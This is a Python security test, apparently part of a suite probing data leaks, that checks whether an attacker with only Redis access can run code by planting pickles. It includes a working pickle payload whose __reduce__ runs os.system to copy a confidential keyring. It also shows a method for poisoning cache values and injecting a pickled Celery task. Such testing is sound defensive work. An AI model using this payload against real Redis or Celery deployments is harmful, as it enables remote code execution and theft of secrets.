"""Way 33: somebody who has Redis, and nothing else, lets code run in a process that reads from it."""

import os
import pickle
import time

import kombu
import redis

from trials.leak.visitor import Visitor
from trials.leak.ways import Seen, switched, way

LONGEST_SECONDS = 20


class Hostile:
    """Run by whoever unpickles it: copies the key ring to where the thief finds it."""

    def __init__(self, ring, stolen):
        self.command = f"cp {ring} {stolen}"

    def __reduce__(self):
        return os.system, (self.command,)


@way(33, "Redis alone: a pickle where a value was", plant=switched("cache"))
def pickles(world):
    """Every value of the cache replaced by a pickle, then the forms that read them; a pickled task for the worker."""
    wrong = {"login": world.people["mentee"]["email"], "password": "wrong-password"}
    Visitor(world.ports["member"], who="thief").post("/accounts/login/", **wrong)
    stolen = world.tmp / "stolen-from-cache"
    places = plant_in_cache(world, stolen)
    Visitor(world.ports["member"], who="thief").post("/accounts/login/", **wrong)
    world.as_("superuser", "staff").get("/admin/")
    yield from taken(stolen, "pickle in the cache", vain="" if places >= 2 else "the cache was empty")
    stolen = world.tmp / "stolen-by-task"
    publish(world, stolen)
    yield from taken(stolen, "pickled task", vain="" if refused(world) else "the worker never took it")
    redis.Redis.from_url(world.redis_url).delete(*keys(world))


def keys(world):
    """What is a value: the broker's own lists and sets are read as JSON before anything else is."""
    server = redis.Redis.from_url(world.redis_url)
    return [key for key in server.scan_iter("*") if server.type(key) == b"string"]


def plant_in_cache(world, stolen):
    """Replace every value. How many there were."""
    content = pickle.dumps(Hostile(world.var / "confidential_keyring", stolen))
    found = keys(world)
    for key in found:
        redis.Redis.from_url(world.redis_url).set(key, content)
    return len(found)


def publish(world, stolen):
    """A task whose arguments are a pickle, as Celery would take it if it were told to."""
    content = pickle.dumps(((Hostile(world.var / "confidential_keyring", stolen),), {}, {}))
    with kombu.Connection(world.redis_url) as connection:
        connection.Producer().publish(
            content,
            routing_key="celery",
            content_type="application/x-python-serialize",
            content_encoding="binary",
            headers={"task": "mail.tasks.send_outbox", "id": "leaktest"},
        )


def refused(world):
    """Whether the worker has met the task, and said so; it may take a moment."""
    until = time.monotonic() + LONGEST_SECONDS
    while time.monotonic() < until:
        if "ContentDisallowed" in world.log("worker"):
            return True
        time.sleep(0.2)
    return False


def taken(stolen, where, *, vain):
    """What the thief got: the key ring, if any code of theirs has run."""
    ran = stolen.exists()
    yield Seen(
        where, stolen.read_bytes() if ran else b"", "code of a stranger has run" if ran else "", (), vain
    )
    stolen.unlink(missing_ok=True)
